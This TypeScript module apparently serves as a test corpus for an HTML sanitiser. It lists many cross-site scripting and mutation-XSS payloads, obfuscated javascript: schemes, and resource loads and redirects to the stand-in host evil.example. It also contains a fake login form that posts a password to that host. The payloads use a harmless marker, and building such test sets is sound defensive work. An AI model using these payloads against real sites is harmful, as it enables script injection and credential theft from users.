/**
 * Markup that wants to run, load or lead astray. `RAN` is what a payload that runs sets on the
 * window; `evil.example` is what a payload that loads asks. Sources: the shapes of OWASP's filter
 * evasion list and of the published mutation attacks on sanitisers.
 */
const RUN = 'window.RAN=1';
const EVIL = 'https://evil.example';

const TAGS_THAT_LOAD = ['img', 'video', 'audio', 'source', 'track', 'embed', 'iframe', 'frame',
  'input type=image', 'script', 'image'];
const HANDLERS = ['onerror', 'onload', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle',
  'onpointerenter', 'onbegin', 'onpageshow', 'onclick', 'onwheel', 'oncontentvisibilityautostatechange'];
const HOSTS = ['img src=x', 'svg', 'body', 'details open', 'input autofocus', 'video src=x',
  'p style=animation:x', 'a href=#'];
const SCHEMES = [`javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`,
  `java\nscript:${RUN}`, ` javascript:${RUN}`, `\u0001javascript:${RUN}`,
  `&#106;avascript:${RUN}`, `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${RUN}`,
  `javascript&colon;${RUN}`, `java&Tab;script:${RUN}`, `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cuUkFOPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload="${RUN}">`, `blob:${EVIL}/x`, 'file:///etc/passwd',
  `view-source:${EVIL}`, 'filesystem:x', `feed:javascript:${RUN}`, `//evil.example/x`,
  `/\\evil.example/x`, `\\\\evil.example\\x`, `/\t/evil.example/x`];

const scripts = [`<script>${RUN}</script>`, `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`, `<<script>${RUN}//<</script>`, `<script>${RUN}`,
  `<svg><script>${RUN}</script></svg>`, `<svg><script href="data:,${RUN}"/></svg>`,
  `<math><script>${RUN}</script></math>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`, `"><script>${RUN}</script>`,
  `<script type=module>${RUN}</script>`, `<script type=text/javascript>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`, `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<script>${RUN}</script>]]>`, `<?xml version="1.0"?><script>${RUN}</script>`];

const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noembed><img src="</noembed><iframe onload=${RUN}>">`,
  `<xmp><p title="</xmp><svg/onload=${RUN}>">`,
  `<listing>&lt;img onerror="${RUN}" src=x&gt;</listing>`,
  `<style><style/><img src=x onerror=${RUN}>`, `<style></style\x0d><img src=x onerror=${RUN}>`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
  `<select><style></select><img src=x onerror=${RUN}></style>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.RAN=1</script>"></foreignObject></svg>`,
  `<svg><desc><img src=x onerror=${RUN}></desc></svg>`,
  `<svg><title><img src=x onerror=${RUN}></title></svg>`,
  `<math href="javascript:${RUN}">click</math>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${RUN}"></style></annotation-xml></math>`,
  `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=1>">`,
  `<p id="</p><img src=x onerror=${RUN}>">`, `<a title="</a><svg onload=${RUN}>">x</a>`,
  `<table><td background="javascript:${RUN}">`, `<div id=x></div><div id="&quot;><img src=x onerror=${RUN}>">`,
  `<img alt="\`><script>${RUN}</script>\`" src=x>`, `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<a href="/x" title="&lt;/a&gt;&lt;img src=x onerror=${RUN}&gt;">x</a>`,
  `<plaintext><img src=x onerror=${RUN}>`, `<iframe><!--</iframe><img src=x onerror=${RUN}>-->`,
  `<svg><a><animate attributeName=href values=javascript:${RUN} /><text x=20 y=20>X</text></a>`,
  `<svg><set attributeName=onmouseover to=${RUN}>`, `<svg><use href="data:image/svg+xml,<svg id=x><script>${RUN}</script></svg>#x">`,
  `<svg><image href=x onerror=${RUN}>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<isindex action=javascript:${RUN} type=image>`, `<keygen autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`, `<dialog open onclose=${RUN}>x</dialog>`,
  `<custom-tag onfocus=${RUN} tabindex=1 autofocus>x</custom-tag>`,
  `<b is="x-y" onclick=${RUN}>x</b>`, `<slot name=x onslotchange=${RUN}></slot>`];

const loads = [`<link rel=stylesheet href=${EVIL}/x.css>`, `<link rel=prefetch href=${EVIL}/x>`,
  `<link rel=dns-prefetch href=${EVIL}>`, `<link rel=import href=${EVIL}/x.html>`,
  `<style>@import url(${EVIL}/x.css);</style>`, `<style>body{background:url(${EVIL}/x)}</style>`,
  `<style>@font-face{font-family:x;src:url(${EVIL}/x)}p{font-family:x}</style>`,
  `<p style="background:url(${EVIL}/x)">x</p>`, `<p style="background:url(javascript:${RUN})">x</p>`,
  `<p style="width:expression(${RUN})">x</p>`, `<p style="-moz-binding:url(${EVIL}/x)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">cover</p>`, `<div class="fh-cover">cover</div>`,
  `<li style=list-style:url(${EVIL}/x)>x</li>`, `<p style="content:url(${EVIL}/x)">x</p>`,
  `<table background=${EVIL}/x><tr><td background=${EVIL}/x>x</table>`, `<body background=${EVIL}/x>`,
  `<object data=${EVIL}/x></object>`, `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<applet code=${EVIL}/x></applet>`, `<embed src="javascript:${RUN}">`,
  `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="&lt;script&gt;parent.RAN=1&lt;/script&gt;"></iframe>`,
  `<frameset onload=${RUN}><frame src=${EVIL}></frameset>`, `<portal src=${EVIL}></portal>`,
  `<img srcset="${EVIL}/x 1x">`, `<img src=/x srcset="${EVIL}/x 2x">`,
  `<picture><source srcset=${EVIL}/x><img src=/x></picture>`, `<img lowsrc=${EVIL}/x dynsrc=${EVIL}/x>`,
  `<video poster=${EVIL}/x></video>`, `<svg><image xlink:href=${EVIL}/x /></svg>`,
  `<svg><feImage href=${EVIL}/x /></svg>`, `<svg><use href="${EVIL}/x#y"/></svg>`,
  `<svg fill="url(${EVIL}/x)"><rect/></svg>`, `<bgsound src=${EVIL}/x>`,
  `<a href=/x ping=${EVIL}/x>x</a>`, `<html manifest=${EVIL}/x>`];

const astray = [`<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`, `<base href=${EVIL}/>`,
  `<base target=_top>`, `<form action=${EVIL}><input name=password><button>Log in</button></form>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`, `<input type=submit formaction=${EVIL}>`,
  `<form id=x></form><button form=x formaction="javascript:${RUN}">x</button>`,
  `<form><input name=attributes><input name=parentNode></form>`, `<img name=body src=/x>`,
  `<a id=defaultView href="x:y">x</a>`, `<p id=root>x</p>`, `<p name=cookie>x</p>`,
  `<textarea name=x autofocus>x</textarea>`, `<select><option>x</option></select>`,
  `<label for=password>x</label>`, `<details ontoggle=${RUN} open>x</details>`,
  `<a href="${EVIL}" target=_self onclick="return ${RUN}">x</a>`,
  `<map name=m><area shape=default href="javascript:${RUN}"></map><img usemap=#m src=/x>`,
  `<div contenteditable autofocus onfocus=${RUN}>x</div>`, `<p data-key=submitLogin>x</p>`,
  `<p aria-hidden=true role=dialog>x</p>`, `<a href="https://user:pass@evil.example/">x</a>`];

export const HOSTILE: readonly string[] = [
  ...scripts, ...mutations, ...loads, ...astray,
  ...TAGS_THAT_LOAD.map((tag) => `<${tag} src="${EVIL}/x">`),
  ...HOSTS.flatMap((host) => HANDLERS.map((handler) => `<${host} ${handler}=${RUN}>x`)),
  ...SCHEMES.map((address) => `<a href="${address.replaceAll('"', '&quot;')}">x</a>`),
  ...SCHEMES.map((address) => `<img src="${address.replaceAll('"', '&quot;')}">`),
  ...HANDLERS.map((handler) => `<img/src="/x"/${handler}=${RUN}>`),
  ...HANDLERS.map((handler) => `<svg/${handler}="${RUN}"//`),
];
